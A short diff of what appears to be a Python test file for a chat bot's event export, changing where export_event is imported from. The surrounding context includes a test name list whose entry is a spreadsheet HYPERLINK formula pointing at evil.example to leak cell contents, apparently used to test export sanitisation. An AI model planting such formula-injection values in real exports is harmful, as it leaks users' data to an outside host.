@@ -8,10 +8,10 @@ from pathlib import Path
 from sqlalchemy import update
 
 from bot.app import App
-from bot.cli import export_event
 from storage.models import Member
 from tests.conftest import Chat
 from tests.singles import add_event, ensure_member
+from unionbot.cli import export_event
 
 NAMES = [
     '=HYPERLINK("http://evil.example/?leak="&A2,"点我")',
